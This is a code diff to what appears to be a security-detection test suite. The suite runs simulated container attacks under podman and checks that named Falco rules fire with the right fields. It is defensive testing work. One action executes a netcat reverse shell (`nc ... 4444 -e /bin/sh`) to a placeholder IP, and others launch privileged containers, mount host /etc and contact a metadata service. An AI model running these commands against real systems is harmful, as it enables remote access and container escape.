@@ -7,21 +7,24 @@
  */
 
 import type { Action, ActionContext } from "../action.ts";
+import { incubating, sandbox } from "../action.ts";
 import { requireCall } from "../command.ts";
 import { IMAGE_REPOSITORY, IN_IMAGE, runOnce, startContainer } from "../podman.ts";
 import { createNetLab } from "../netlab.ts";
 import { evidenceOf, expectExit } from "./util.ts";
 
-const NO_NET = ["--network", "none"];
+/** No network at all (the default for container actions). */
+export const NO_NET = ["--network", "none"];
 
 /**
  * What every container action's alert must carry about its container: the id (from the cgroup)
  * and the runtime's metadata. The attacks start at once, without leaving the agent time to look
  * the container up: its metadata must be there from the container's first event.
  */
-const METADATA_EXPECT = ["container.id", "container.name", "container.image.repository"];
+export const METADATA_EXPECT = ["container.id", "container.name", "container.image.repository"];
 
-function metadataFacts(id: string, name: string): Record<string, string> {
+/** The container facts every container action reports. */
+export function metadataFacts(id: string, name: string): Record<string, string> {
   return {
     "container.id": id.slice(0, 12),
     "container.name": name,
@@ -30,7 +33,7 @@ function metadataFacts(id: string, name: string): Record<string, string> {
 }
 
 /** A running container to exec into (the attack follows its start at once). */
-async function sleeper(ctx: ActionContext, label: string, flags: string[] = NO_NET) {
+export async function sleeper(ctx: ActionContext, label: string, flags: string[] = NO_NET) {
   return startContainer(ctx.ws, await ctx.image(), label, { flags, settleMs: 300 });
 }
 
@@ -90,6 +93,11 @@ export const CONTAINER_ACTIONS: Action[] = [
     kind: "container",
     needs: ["root", "podman", "gcc"],
     expect: [...METADATA_EXPECT],
+    falcoTargets: [
+      incubating("Launch Privileged Container", "proc.name", ...METADATA_EXPECT),
+      incubating("Launch Excessively Capable Container", "proc.name", ...METADATA_EXPECT),
+      sandbox("Container Run as Root User", "proc.name", "user.uid", ...METADATA_EXPECT),
+    ],
     async run(ctx) {
       const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "priv", [
         IN_IMAGE.helper,
@@ -100,7 +108,12 @@ export const CONTAINER_ACTIONS: Action[] = [
       ]);
       expectExit(result, "podman run --privileged");
       return {
-        facts: { ...metadataFacts(id, name), "container.privileged": true },
+        facts: {
+          "proc.name": "saker-sim",
+          "user.uid": 0,
+          ...metadataFacts(id, name),
+          "container.privileged": true,
+        },
         containerId: id,
         evidence: evidenceOf(result, "podman run --privileged"),
       };
@@ -114,6 +127,7 @@ export const CONTAINER_ACTIONS: Action[] = [
     kind: "container",
     needs: ["root", "podman", "gcc"],
     expect: [...METADATA_EXPECT],
+    falcoTargets: [sandbox("Launch Sensitive Mount Container", "proc.name", ...METADATA_EXPECT)],
     async run(ctx) {
       const { id, name, result } = await runOnce(ctx.ws, await ctx.image(), "mount", [
         IN_IMAGE.helper,
@@ -125,7 +139,7 @@ export const CONTAINER_ACTIONS: Action[] = [
       ]);
       expectExit(result, "podman run -v /etc");
       return {
-        facts: { ...metadataFacts(id, name) },
+        facts: { "proc.name": "saker-sim", ...metadataFacts(id, name) },
         containerId: id,
         evidence: evidenceOf(result, "podman run -v /etc:/host-etc:ro"),
       };
@@ -190,6 +204,9 @@ export const CONTAINER_ACTIONS: Action[] = [
     needs: ["root", "podman", "gcc"],
     expect: ["proc.exe", "proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.exe", "proc.name"],
+    falcoTargets: [
+      sandbox("Container Drift Detected (open+create)", "evt.arg.name", ...METADATA_EXPECT),
+    ],
     async run(ctx) {
       const c = await sleeper(ctx, "drop");
       const dropped = "/tmp/saker-dropped";
@@ -200,6 +217,7 @@ export const CONTAINER_ACTIONS: Action[] = [
       return {
         facts: {
           "proc.exe": dropped,
+          "evt.arg.name": dropped,
           "proc.name": "saker-dropped",
           ...metadataFacts(c.id, c.name),
         },
@@ -265,6 +283,9 @@ export const CONTAINER_ACTIONS: Action[] = [
     needs: ["root", "podman", "gcc"],
     expect: ["proc.name", ...METADATA_EXPECT],
     falcoExpect: ["proc.name"],
+    falcoTargets: [
+      incubating("Launch Suspicious Network Tool in Container", "proc.name", ...METADATA_EXPECT),
+    ],
     async run(ctx) {
       const c = await sleeper(ctx, "netcat");
       const r = await c.exec(["nc", "-w", "1", "203.0.113.10", "4444", "-e", "/bin/sh"]);
@@ -308,12 +329,20 @@ export const CONTAINER_ACTIONS: Action[] = [
     kind: "container",
     needs: ["root", "podman", "gcc"],
     expect: ["proc.name", ...METADATA_EXPECT],
+    falcoTargets: [
+      incubating(
+        "Change namespace privileges via unshare",
+        "proc.name",
+        "evt.res",
+        ...METADATA_EXPECT,
+      ),
+    ],
     async run(ctx) {
       const c = await sleeper(ctx, "unshare");
       const r = await c.exec([IN_IMAGE.helper, "unshare-uts"]);
       requireCall(r, "unshare");
       return {
-        facts: { "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
+        facts: { "evt.res": "EPERM", "proc.name": "saker-sim", ...metadataFacts(c.id, c.name) },
         containerId: c.id,
         evidence: evidenceOf(r, "podman exec saker-sim unshare-uts"),
       };
@@ -327,6 +356,10 @@ export const CONTAINER_ACTIONS: Action[] = [
     kind: "container",
     needs: ["root", "podman", "gcc", "netns"],
     expect: ["proc.name", "fd.sip", ...METADATA_EXPECT],
+    falcoTargets: [
+      incubating("Contact EC2 Instance Metadata Service From Container", "fd.name", "proc.name"),
+      incubating("Contact cloud metadata service from container", "fd.name", "proc.name"),
+    ],
     async run(ctx) {
       const lab = await createNetLab(ctx.ws, await ctx.helper(), {
         client: "169.254.1.2/16",
@@ -336,10 +369,12 @@ export const CONTAINER_ACTIONS: Action[] = [
       const c = await sleeper(ctx, "imds", ["--network", `ns:${lab.clientNsPath}`]);
       const r = await c.exec([IN_IMAGE.helper, "connect", lab.serverIp, "80", "tcp"]);
       requireCall(r, "connect", true);
+      const local = requireCall(r, "getsockname", true).args;
       return {
         facts: {
           "proc.name": "saker-sim",
           "fd.sip": lab.serverIp,
+          "fd.name": `${local}->${lab.serverIp}:80`,
           ...metadataFacts(c.id, c.name),
         },
         containerId: c.id,
